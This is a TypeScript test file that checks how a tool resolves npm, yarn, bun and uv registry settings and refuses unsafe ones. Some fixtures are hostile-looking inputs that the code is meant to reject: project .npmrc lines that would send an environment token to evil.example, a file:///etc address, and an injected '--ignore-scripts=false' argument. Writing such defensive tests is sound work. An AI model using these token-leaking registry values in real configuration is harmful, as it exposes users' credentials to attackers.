import { describe, expect, test } from 'vitest';
import { npmAuthorities, npmRegistries, pythonRegistry, settingsElsewhere, steeringVariable } from './settings';

const none = { named: null, name: 'pkg', env: {}, files: [] };
const file = (text: string, path = '/home/ana/.npmrc') => ({ path, text });

describe('the registry npm would ask', () => {
  test.each<{ why: string; given: Partial<Parameters<typeof npmRegistries>[0]>; want: string | RegExp; scopes?: Record<string, string> }>([
    { why: 'the public one without settings', given: {}, want: 'https://registry.npmjs.org/' },
    { why: 'the one the person set', given: { files: [file('registry=https://npm.corp.example/')] }, want: 'https://npm.corp.example/' },
    { why: 'with spaces, quotes and remarks', given: { files: [file('; registry=https://no.example\n# x\n registry = "https://npm.corp.example"\r\n')] }, want: 'https://npm.corp.example/' },
    { why: 'the project’s before the person’s', given: { files: [file('registry=https://project.example'), file('registry=https://person.example')] }, want: 'https://project.example/' },
    { why: 'the entry’s variable before files', given: { env: { NPM_CONFIG_REGISTRY: 'https://variable.example' }, files: [file('registry=https://person.example')] }, want: 'https://variable.example/' },
    { why: 'the command before all', given: { named: 'https://command.example', env: { npm_config_registry: 'https://variable.example' } }, want: 'https://command.example/' },
    { why: 'a variable in a file', given: { env: { HOST: 'npm.example' }, files: [file('registry=https://${HOST}/')] }, want: 'https://npm.example/' },
    { why: 'the entry’s variables are not told to an address that came with a project', given: { env: { TOKEN: 'secret' }, files: [{ ...file('registry=https://evil.example/${TOKEN}/', '/p/.npmrc'), foreign: true }] }, want: /^https:\/\/evil\.example is no address to fetch from\.$/ },
    { why: 'nor by its name', given: { env: { TOKEN: 'secret' }, files: [{ ...file('@a:registry=https://${TOKEN}.evil.example/', '/p/.npmrc'), foreign: true }] }, want: /^(?!.*secret).*is no address/ },
    { why: 'a variable that is not set is no host', given: { files: [file('registry=https://${HOST}/')] }, want: /is no address/ },
    { why: 'scopes keep theirs, or another registry could slip a package in', given: { files: [file('@corp:registry=https://npm.corp.example/')] }, want: 'https://registry.npmjs.org/', scopes: { '@corp': 'https://npm.corp.example/' } },
    { why: 'a key for the public registry is there to publish', given: { files: [file('//registry.npmjs.org/:_authToken=abc')] }, want: 'https://registry.npmjs.org/' },
    { why: 'a key for the only registry', given: { files: [file('registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=abc')] }, want: /npm\.corp\.example wants a key/ },
    { why: 'a certificate is a key', given: { files: [file('registry=https://npm.corp.example/x/\n//npm.corp.example/x/:certfile=/c')] }, want: /wants a key/ },
    { why: 'a key for the package’s own scope', given: { name: '@corp/server', files: [file('@corp:registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=${T}')] }, want: /wants a key/ },
    { why: 'a key for another scope', given: { files: [file('@corp:registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=abc')] }, want: 'https://registry.npmjs.org/', scopes: { '@corp': 'https://npm.corp.example/' } },
    { why: 'a password in the address', given: { named: 'https://ana:secret@npm.example/' }, want: /^https:\/\/npm\.example is no address to fetch from\.$/ },
    { why: 'an address of files', given: { named: 'file:///etc' }, want: /is no address/ },
    { why: 'no address at all', given: { named: '--ignore-scripts=false' }, want: /is no address/ },
    { why: 'a scope’s bad address', given: { files: [file('@corp:registry=ftp://x')] }, want: /is no address/ },
    { why: 'a prototype’s name is a name', given: { files: [file('__proto__=x\nconstructor=y')] }, want: 'https://registry.npmjs.org/' },
  ])('$why', ({ given, want, scopes = {} }) => {
    const registries = npmRegistries({ ...none, ...given });
    if (typeof want === 'string') expect(registries).toEqual({ ok: true, value: { registry: want, scopes } });
    else expect(registries).toEqual({ ok: false, error: expect.stringMatching(want) as string });
  });
});

test.each([
  { text: 'npmRegistryServer: "https://x"', path: '/p/.yarnrc.yml', elsewhere: true, why: 'yarn’s registry' },
  { text: 'npmScopes:\n  corp: {}', path: '/p/.yarnrc.yml', elsewhere: true, why: 'yarn’s scopes' },
  { text: 'nodeLinker: node-modules', path: '/p/.yarnrc.yml', elsewhere: false, why: 'nothing about registries' },
  { text: '[install]\nregistry = "https://x"', path: '/p/bunfig.toml', elsewhere: true, why: 'bun’s registry' },
  { text: '[install.scopes]\ncorp = "x"', path: '/p/bunfig.toml', elsewhere: true, why: 'bun’s scopes' },
  { text: '[test]\ncoverage = true', path: '/p/bunfig.toml', elsewhere: false, why: 'nothing about registries' },
  { text: 'index-url = "https://x"', path: '/p/uv.toml', elsewhere: true, why: 'uv’s index' },
  { text: '[[index]]\nurl = "https://x"', path: '/p/uv.toml', elsewhere: true, why: 'uv’s list of them' },
  { text: '[project]\nname = "x"\n[[tool.uv.index]]\nurl = "https://x"', path: '/p/pyproject.toml', elsewhere: true, why: 'the same in a project' },
  { text: '[project]\nname = "x"', path: '/p/pyproject.toml', elsewhere: false, why: 'a plain project' },
])('$why in $path', ({ text, path, elsewhere }) => {
  expect(settingsElsewhere([{ path, text }])).toEqual(elsewhere ? `The settings in ${path} name another place to fetch from.` : null);
  if (path.endsWith('uv.toml')) expect(pythonRegistry(null, [{ path, text }]).ok).toBe(!elsewhere);
});

test.each([
  { name: 'npm_config_registry', steers: false },
  { name: 'NPM_CONFIG_YES', steers: false },
  { name: 'npm_config_script_shell', steers: true },
  { name: 'UV_INDEX_URL', steers: true },
  { name: 'PIP_INDEX_URL', steers: true },
  { name: 'BUN_INSTALL', steers: true },
  { name: 'GITHUB_TOKEN', steers: false },
])('the variable $name', ({ name, steers }) => {
  expect(steeringVariable(['A', name], 'npx') !== null).toBe(steers);
});

test.each<{ why: string; files: string[]; want: string | null }>([
  { why: 'none is named', files: ['registry=https://npm.corp.example'], want: null },
  { why: 'a company’s authority', files: ['cafile=/etc/ssl/corp.pem'], want: '/etc/ssl/corp.pem' },
  { why: 'in quotes, the last line of a file counts', files: ['cafile=/a.pem\ncafile = "/b.pem"'], want: '/b.pem' },
  { why: 'the person’s before the machine’s', files: ['cafile=/person.pem', 'cafile=/machine.pem'], want: '/person.pem' },
  { why: 'below home', files: ['cafile=~/corp.pem'], want: '/home/ana/corp.pem' },
  { why: 'a variable', files: ['cafile=${CERTS}/corp.pem'], want: '/certs/corp.pem' },
  { why: 'where that is depends on who asks', files: ['cafile=corp.pem'], want: null },
  { why: 'taken away again', files: ['cafile='], want: null },
])('authorities npm trusts: $why', ({ files, want }) => {
  expect(npmAuthorities(files.map((text) => file(text)), { CERTS: '/certs' }, '/home/ana')).toBe(want);
});
